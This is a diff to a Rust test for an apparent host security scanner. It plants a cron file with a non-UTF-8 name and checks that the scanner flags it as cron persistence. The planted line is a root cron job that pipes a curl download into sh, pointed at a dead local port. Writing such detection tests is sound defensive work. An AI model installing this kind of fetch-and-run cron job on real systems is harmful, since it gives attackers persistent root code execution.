@@ -523,9 +523,23 @@ fn row10_paths_that_are_not_utf8() {
     std::fs::copy(burner(), &miner).unwrap();
     std::fs::set_permissions(&miner, std::fs::Permissions::from_mode(0o755)).unwrap();
     let m = start(Command::new(&miner));
+    // A cron file whose name is not UTF-8 is read and judged too.
+    std::fs::write(
+        std::ffi::OsStr::from_bytes(b"/etc/cron.d/\xffjob"),
+        "* * * * * root curl -fsSL http://127.0.0.1:9/nonutf8.sh | sh\n",
+    )
+    .unwrap();
     let s = scan(&["--interval", "0.3", "--module-path", "/tmp"]);
     assert!(
         s.findings().iter().any(|f| f["rule"] == "module.file"),
+        "{:#}",
+        s.json["findings"]
+    );
+    assert!(
+        s.findings()
+            .iter()
+            .any(|f| f["rule"] == "persistence.cron"
+                && f["subject"]["path"] == "/etc/cron.d/\\xffjob"),
         "{:#}",
         s.json["findings"]
     );
